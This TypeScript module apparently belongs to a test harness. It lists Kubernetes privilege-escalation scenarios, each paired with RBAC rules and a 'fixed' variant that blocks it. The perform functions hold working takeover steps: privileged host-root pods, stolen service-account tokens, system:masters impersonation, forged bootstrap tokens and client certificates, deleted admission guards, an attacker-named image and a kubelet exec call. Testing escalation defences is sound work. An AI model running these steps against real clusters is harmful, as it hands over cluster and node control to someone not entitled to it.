/** The escalations that are performed: of each technique the rights that it needs, what takes them away, and how somebody goes about it. */
import type { Attempt, Scenario } from './escalation.ts';
import {
  actAs,
  bindTo,
  certify,
  clusterRole,
  eventually,
  everything,
  image,
  isAdmin,
  isStrong,
  node,
  podIsAdmin,
  podOf,
  rbac,
  requestToken,
  rule,
  strongRole,
  subject,
  templateOf,
} from './escalation.ts';

const certificates = 'certificates.k8s.io';
const admission = 'admissionregistration.k8s.io';
const privilegedPod = (namespace: string) =>
  podOf(namespace, 'root', 'weak', {
    hostPID: true,
    containers: [{ name: 'app', image, securityContext: { privileged: true }, volumeMounts: [{ name: 'host', mountPath: '/host' }] }],
    volumes: [{ name: 'host', hostPath: { path: '/' } }],
  });
/** A pod with the node's root directory, running there: what it contains can be read is up to the runtime, which is a fake here. */
async function runsOnNode({ cluster, namespace }: Attempt, name: string): Promise<boolean> {
  return eventually(async () => {
    const { body, status } = await cluster.admin.send('GET', `/api/v1/namespaces/${namespace}/pods/${name}`);
    return status === 200 && (JSON.parse(body) as { status: { phase?: string } }).status.phase === 'Running';
  }, 120);
}
const pods = ({ namespace }: Pick<Attempt, 'namespace'>) => `/api/v1/namespaces/${namespace}/pods`;

export const scenarios: readonly Scenario[] = [
  {
    technique: 'create-pod',
    local: (fixed) => [rule(fixed ? 'get list' : 'create', 'pods')],
    perform: async (attempt) =>
      (await attempt.actor.send('POST', pods(attempt), podOf(attempt.namespace, 'attack', 'strong'))).status === 201 &&
      podIsAdmin(attempt, isStrong),
  },
  {
    technique: 'create-pod',
    variant: 'on-node',
    weakNamespace: true,
    labels: (fixed): Record<string, string> => (fixed ? { 'pod-security.kubernetes.io/enforce': 'baseline' } : {}),
    local: () => [rule('create', 'pods')],
    perform: async (attempt) =>
      (await attempt.actor.send('POST', pods(attempt), privilegedPod(attempt.namespace))).status === 201 && runsOnNode(attempt, 'root'),
  },
  {
    technique: 'create-workload',
    local: (fixed) => [rule(fixed ? 'update' : 'create', fixed ? 'jobs/status' : 'jobs', 'batch')],
    perform: async (attempt) => {
      const template = { spec: { ...templateOf('strong').spec, restartPolicy: 'Never' } };
      const job = { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'attack' }, spec: { template } };
      const { status } = await attempt.actor.send('POST', `/apis/batch/v1/namespaces/${attempt.namespace}/jobs`, job);
      return status === 201 && podIsAdmin(attempt, isStrong);
    },
  },
  {
    technique: 'update-workload',
    local: (fixed) => [rule('patch', 'deployments', 'apps', fixed ? 'other' : 'web')],
    given: (namespace) => [
      {
        apiVersion: 'apps/v1',
        kind: 'Deployment',
        metadata: { name: 'web', namespace },
        spec: { replicas: 1, selector: { matchLabels: { app: 'web' } }, template: templateOf('weak') },
      },
    ],
    perform: async (attempt) => {
      const change = { spec: { template: { spec: { serviceAccountName: 'strong' } } } };
      const { status } = await attempt.actor.patch(`/apis/apps/v1/namespaces/${attempt.namespace}/deployments/web`, change);
      return status === 200 && podIsAdmin(attempt, isStrong);
    },
  },
  {
    technique: 'update-pod',
    local: (fixed) => [rule('patch get', 'pods', '', fixed ? 'other' : 'runner')],
    given: (namespace) => [podOf(namespace, 'runner', 'strong')],
    perform: async (attempt) => {
      const change = { spec: { containers: [{ name: 'app', image: 'registry.example.com/attacker:2' }] } };
      const { status, body } = await attempt.actor.patch(`${pods(attempt)}/runner`, change, true);
      return status === 200 && body.spec.containers[0].image === 'registry.example.com/attacker:2' && podIsAdmin(attempt, isStrong);
    },
  },
  {
    technique: 'debug-pod',
    local: (fixed) => [rule('patch', 'pods/ephemeralcontainers', '', fixed ? 'other' : 'runner')],
    given: (namespace) => [podOf(namespace, 'runner', 'strong')],
    perform: async (attempt) => {
      const seen = await attempt.cluster.admin.json<{ spec: { volumes: { name: string }[] } }>('GET', `${pods(attempt)}/runner`);
      const volume = seen.spec.volumes.find(({ name }) => name.startsWith('kube-api-access-'))?.name;
      const container = { name: 'debug', image, targetContainerName: 'app', volumeMounts: [{ name: volume, mountPath: '/token' }] };
      const { status, body } = await attempt.actor.patch(`${pods(attempt)}/runner/ephemeralcontainers`, {
        spec: { ephemeralContainers: [container] },
      });
      return status === 200 && body.spec.ephemeralContainers.length === 1 && podIsAdmin(attempt, isStrong);
    },
  },
  {
    technique: 'request-token',
    local: (fixed) => [rule('create', 'serviceaccounts/token', '', fixed ? 'harmless' : 'strong')],
    perform: (attempt) => requestToken(attempt, 'strong'),
  },
  {
    technique: 'create-token-secret',
    local: (fixed) => [rule('create', 'secrets'), rule(fixed ? 'delete' : 'get', 'secrets', '', 'attack')],
    perform: async ({ actor, cluster, namespace }) => {
      const secrets = `/api/v1/namespaces/${namespace}/secrets`;
      await actor.send('POST', secrets, {
        apiVersion: 'v1',
        kind: 'Secret',
        type: 'kubernetes.io/service-account-token',
        metadata: { name: 'attack', annotations: { 'kubernetes.io/service-account.name': 'strong' } },
      });
      let token = '';
      const got = await eventually(async () => {
        const { status, body } = await actor.send('GET', `${secrets}/attack`);
        token = status === 200 ? Buffer.from(body.data?.token ?? '', 'base64').toString() : '';
        return status === 403 || token !== '';
      });
      return got && token !== '' && isAdmin(actAs(cluster, { token }));
    },
  },
  {
    technique: 'read-secret',
    local: (fixed) => [fixed ? rule('get list', 'secrets', '', 'other') : rule('list', 'secrets')],
    given: (namespace) => [
      {
        apiVersion: 'v1',
        kind: 'Secret',
        type: 'kubernetes.io/service-account-token',
        metadata: { name: 'strong-token-1', namespace, annotations: { 'kubernetes.io/service-account.name': 'strong' } },
      },
    ],
    perform: async ({ actor, cluster, namespace }) => {
      const { status, body } = await actor.send('GET', `/api/v1/namespaces/${namespace}/secrets`);
      const items = (status === 200 ? body.items : []) as { data: { token: string } }[];
      const [first] = items;
      return first !== undefined && isAdmin(actAs(cluster, { token: Buffer.from(first.data.token, 'base64').toString() }));
    },
  },
  {
    technique: 'create-missing-account',
    local: (fixed) => [rule('create', fixed ? 'configmaps' : 'serviceaccounts'), rule('create', 'serviceaccounts/token', '', 'gone')],
    given: (namespace, user) => [bindTo(`${user}-gone`, strongRole, { kind: 'ServiceAccount', namespace, name: 'gone' })],
    perform: async (attempt) => {
      const account = { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'gone' } };
      await attempt.actor.send('POST', `/api/v1/namespaces/${attempt.namespace}/serviceaccounts`, account);
      return requestToken(attempt, 'gone');
    },
  },
  {
    technique: 'bind-cluster-role',
    wide: (fixed) => [rule('create', 'clusterrolebindings', rbac), rule('bind', 'clusterroles', rbac, fixed ? 'view' : 'cluster-admin')],
    perform: async ({ actor, user }) =>
      (await actor.send('POST', `/apis/${rbac}/v1/clusterrolebindings`, bindTo(`${user}-attack`, 'cluster-admin', subject(user))))
        .status === 201 && eventually(() => isAdmin(actor)),
  },
  {
    technique: 'bind-in-namespace',
    local: (fixed) => [rule('create', 'rolebindings', rbac), ...(fixed ? [] : [rule('bind', 'clusterroles', rbac)])],
    perform: async (attempt) => {
      const binding = bindTo('attack', 'cluster-admin', subject(attempt.user), attempt.namespace);
      const { status } = await attempt.actor.send('POST', `/apis/${rbac}/v1/namespaces/${attempt.namespace}/rolebindings`, binding);
      return status === 201 && eventually(() => requestToken(attempt, 'strong'));
    },
  },
  {
    technique: 'bind-role',
    local: (fixed) => [rule('create', 'rolebindings', rbac), rule('bind', 'roles', rbac, fixed ? 'other' : 'tokens')],
    given: (namespace) => [
      { apiVersion: `${rbac}/v1`, kind: 'Role', metadata: { name: 'tokens', namespace }, rules: [rule('create', 'serviceaccounts/token')] },
    ],
    perform: async (attempt) => {
      const bound = bindTo('attack', 'tokens', subject(attempt.user), attempt.namespace);
      const binding = { ...bound, roleRef: { apiGroup: rbac, kind: 'Role', name: 'tokens' } };
      const { status } = await attempt.actor.send('POST', `/apis/${rbac}/v1/namespaces/${attempt.namespace}/rolebindings`, binding);
      return status === 201 && eventually(() => requestToken(attempt, 'strong'));
    },
  },
  {
    technique: 'escalate-cluster-role',
    wide: (fixed, user) => [rule(fixed ? 'get patch' : 'patch escalate', 'clusterroles', rbac, `${user}-wide`)],
    perform: async ({ actor, user }) =>
      (await actor.patch(`/apis/${rbac}/v1/clusterroles/${user}-wide`, { rules: [everything] })).status === 200 &&
      eventually(() => isAdmin(actor)),
  },
  {
    technique: 'aggregate-into-role',
    wide: (fixed) => [rule(fixed ? 'create' : 'create escalate', 'clusterroles', rbac)],
    given: (_namespace, user) => [
      clusterRole(`${user}-sum`, [], { aggregationRule: { clusterRoleSelectors: [{ matchLabels: { into: `${user}-sum` } }] } }),
      bindTo(`${user}-sum`, `${user}-sum`, subject(user)),
    ],
    perform: async ({ actor, user }) => {
      const role = {
        ...clusterRole(`${user}-part`, [everything]),
        metadata: { name: `${user}-part`, labels: { into: `${user}-sum` } },
      };
      return (await actor.send('POST', `/apis/${rbac}/v1/clusterroles`, role)).status === 201 && eventually(() => isAdmin(actor));
    },
  },
  {
    technique: 'impersonate-account',
    local: (fixed) => [rule('impersonate', 'serviceaccounts', '', fixed ? 'harmless' : 'strong')],
    perform: ({ cluster, credential, namespace }) =>
      isAdmin(actAs(cluster, { ...credential, headers: { 'impersonate-user': `system:serviceaccount:${namespace}:strong` } })),
  },
  {
    technique: 'impersonate-user',
    wide: (fixed, user) => [rule('impersonate', 'users', '', fixed ? 'carol' : `${user}-boss`)],
    given: (_namespace, user) => [bindTo(`${user}-boss`, strongRole, subject(`${user}-boss`))],
    perform: ({ cluster, credential, user }) => isAdmin(actAs(cluster, { ...credential, headers: { 'impersonate-user': `${user}-boss` } })),
  },
  {
    technique: 'impersonate-group',
    wide: (fixed) => [rule('impersonate', 'groups', '', 'system:masters'), ...(fixed ? [] : [rule('impersonate', 'users', '', 'anybody')])],
    perform: ({ cluster, credential }) =>
      isAdmin(actAs(cluster, { ...credential, headers: { 'impersonate-user': 'anybody', 'impersonate-group': 'system:masters' } })),
  },
  {
    technique: 'sign-client-certificate',
    wide: (fixed) => [
      rule('create get', 'certificatesigningrequests', certificates),
      rule('update', 'certificatesigningrequests/approval', certificates),
      rule('approve', 'signers', certificates, fixed ? 'kubernetes.io/kubelet-serving' : 'kubernetes.io/kube-apiserver-client'),
    ],
    given: (_namespace, user) => [bindTo(`${user}-ops`, strongRole, { apiGroup: rbac, kind: 'Group', name: `${user}-ops` })],
    perform: async (attempt) => {
      const issued = await certify(attempt, 'kubernetes.io/kube-apiserver-client', `/O=${attempt.user}-ops/CN=whoever`, true);
      return issued !== undefined && isAdmin(actAs(attempt.cluster, issued));
    },
  },
  {
    technique: 'join-as-node',
    wide: (fixed) => [
      rule('create get', 'certificatesigningrequests', certificates),
      rule('create', `certificatesigningrequests/${fixed ? 'selfnodeclient' : 'nodeclient'}`, certificates),
    ],
    given: (namespace) => [podOf(namespace, 'runner', 'strong')],
    perform: async (attempt) => {
      const name = `/O=system:nodes/CN=system:node:${node}`;
      const issued = await certify(attempt, 'kubernetes.io/kube-apiserver-client-kubelet', name, false);
      if (issued === undefined) return false;
      const { metadata } = await attempt.cluster.admin.json<{ metadata: { uid: string } }>('GET', `${pods(attempt)}/runner`);
      const bound = { boundObjectRef: { apiVersion: 'v1', kind: 'Pod', name: 'runner', uid: metadata.uid } };
      return requestToken({ ...attempt, actor: actAs(attempt.cluster, issued) }, 'strong', bound);
    },
  },
  {
    technique: 'create-bootstrap-token',
    given: (namespace, user, fixed) => [
      clusterRole(`${user}-create`, [rule('create', 'secrets')]),
      bindTo(`${user}-create`, `${user}-create`, subject(user), fixed ? namespace : 'kube-system'),
      bindTo(`${user}-joiners`, strongRole, { apiGroup: rbac, kind: 'Group', name: 'system:bootstrappers:joiners' }),
    ],
    perform: async ({ actor, cluster }) => {
      const { status } = await actor.send('POST', '/api/v1/namespaces/kube-system/secrets', {
        apiVersion: 'v1',
        kind: 'Secret',
        type: 'bootstrap.kubernetes.io/token',
        metadata: { name: 'bootstrap-token-attack' },
        stringData: {
          'token-id': 'attack',
          'token-secret': '0123456789abcdef',
          'usage-bootstrap-authentication': 'true',
          'auth-extra-groups': 'system:bootstrappers:joiners',
        },
      });
      return status === 201 && eventually(() => isAdmin(actAs(cluster, { token: 'attack.0123456789abcdef' })));
    },
  },
  {
    technique: 'relabel-namespace',
    weakNamespace: true,
    labels: () => ({ 'pod-security.kubernetes.io/enforce': 'restricted' }),
    local: (fixed) => [rule('create', 'pods'), rule(fixed ? 'get' : 'patch', 'namespaces')],
    perform: async (attempt) => {
      const pod = privilegedPod(attempt.namespace);
      if ((await attempt.actor.send('POST', pods(attempt), pod)).status === 201)
        throw new Error('Pod Security lets a privileged pod through');
      await attempt.actor.patch(`/api/v1/namespaces/${attempt.namespace}`, {
        metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } },
      });
      return (
        (await eventually(async () => (await attempt.actor.send('POST', pods(attempt), pod)).status === 201, 12)) &&
        runsOnNode(attempt, 'root')
      );
    },
  },
  {
    technique: 'mount-volume-of-node',
    weakNamespace: true,
    local: () => [rule('create', 'pods persistentvolumeclaims')],
    wide: (fixed) => [rule(fixed ? 'get' : 'create', 'persistentvolumes')],
    perform: async (attempt) => {
      const { actor, namespace, user } = attempt;
      const capacity = { storage: '1Gi' };
      const volume = {
        apiVersion: 'v1',
        kind: 'PersistentVolume',
        metadata: { name: user },
        spec: { capacity, accessModes: ['ReadWriteOnce'], hostPath: { path: '/' }, storageClassName: '' },
      };
      if ((await actor.send('POST', '/api/v1/persistentvolumes', volume)).status !== 201) return false;
      await actor.send('POST', `/api/v1/namespaces/${namespace}/persistentvolumeclaims`, {
        apiVersion: 'v1',
        kind: 'PersistentVolumeClaim',
        metadata: { name: 'attack' },
        spec: { accessModes: ['ReadWriteOnce'], volumeName: user, storageClassName: '', resources: { requests: capacity } },
      });
      const pod = podOf(namespace, 'attack', 'weak', {
        containers: [{ name: 'app', image, volumeMounts: [{ name: 'host', mountPath: '/host' }] }],
        volumes: [{ name: 'host', persistentVolumeClaim: { claimName: 'attack' } }],
      });
      return (await actor.send('POST', pods(attempt), pod)).status === 201 && runsOnNode(attempt, 'attack');
    },
  },
  {
    technique: 'remove-guard',
    local: () => [rule('create', 'pods')],
    wide: (fixed, user) => [rule(fixed ? 'get' : 'delete', 'validatingadmissionpolicybindings', admission, user)],
    // What the policy refuses is not to be seen, so pods are possible there.
    fixed: 'possible',
    given: (namespace, user) => [
      {
        apiVersion: `${admission}/v1`,
        kind: 'ValidatingAdmissionPolicy',
        metadata: { name: user },
        spec: {
          failurePolicy: 'Fail',
          matchConstraints: {
            namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': namespace } },
            resourceRules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }],
          },
          validations: [{ expression: "object.spec.serviceAccountName != 'strong'" }],
        },
      },
      {
        apiVersion: `${admission}/v1`,
        kind: 'ValidatingAdmissionPolicyBinding',
        metadata: { name: user },
        spec: { policyName: user, validationActions: ['Deny'] },
      },
    ],
    perform: async (attempt) => {
      const create = async () =>
        (await attempt.actor.send('POST', pods(attempt), podOf(attempt.namespace, 'attack', 'strong'))).status === 201;
      if (await create()) throw new Error('the policy refuses nothing');
      const path = `/apis/${admission}/v1/validatingadmissionpolicybindings/${attempt.user}`;
      if ((await attempt.actor.send('DELETE', path)).status !== 200) return false;
      return (await eventually(create)) && podIsAdmin(attempt, isStrong);
    },
  },
  {
    technique: 'change-mutating-policy',
    hop: 'possible',
    wide: (fixed) => [
      rule('create', 'mutatingadmissionpolicies', admission),
      ...(fixed ? [] : [rule('create', 'mutatingadmissionpolicybindings', admission)]),
    ],
    given: (namespace) => [podOf(namespace, 'runner', 'strong')],
    perform: async ({ actor, cluster, namespace, user }) => {
      const policies = `/apis/${admission}/v1`;
      await actor.send('POST', `${policies}/mutatingadmissionpolicies`, {
        apiVersion: `${admission}/v1`,
        kind: 'MutatingAdmissionPolicy',
        metadata: { name: user },
        spec: {
          failurePolicy: 'Ignore',
          reinvocationPolicy: 'Never',
          matchConstraints: {
            namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': namespace } },
            resourceRules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }],
          },
          mutations: [
            {
              patchType: 'JSONPatch',
              jsonPatch: {
                expression: `[JSONPatch{op: "add", path: "/spec/containers/-", value: Object.spec.containers{name: "attack", image: "${image}"}}]`,
              },
            },
          ],
        },
      });
      await actor.send('POST', `${policies}/mutatingadmissionpolicybindings`, {
        apiVersion: `${admission}/v1`,
        kind: 'MutatingAdmissionPolicyBinding',
        metadata: { name: user },
        spec: { policyName: user },
      });
      let count = 0;
      return eventually(async () => {
        // Somebody else makes the account's next pod.
        const path = `/api/v1/namespaces/${namespace}/pods`;
        const made = await cluster.admin.json<{ spec: { containers: { name: string }[] } }>('POST', path, {
          body: podOf(namespace, `next-${count++}`, 'strong'),
        });
        return made.spec.containers.some(({ name }) => name === 'attack');
      }, 24);
    },
  },
  {
    technique: 'proxy-to-node',
    wide: (fixed) => [rule('get', fixed ? 'nodes/metrics nodes/stats' : 'nodes/proxy')],
    given: (namespace) => [podOf(namespace, 'runner', 'strong')],
    // The fake runtime runs no command; that the kubelet asks for an upgrade and does not refuse is as far as one comes.
    perform: async ({ cluster, credential, namespace }) => {
      const kubelet = actAs({ server: cluster.kubelet }, credential);
      const listed = await kubelet.send('GET', '/pods');
      const exec = await kubelet.send('GET', `/exec/${namespace}/runner/app?command=id&output=1`);
      const seen = listed.status === 200 && JSON.stringify(listed.body).includes(`"namespace":"${namespace}"`);
      return seen && exec.status !== 403 && exec.status !== 401;
    },
  },
];
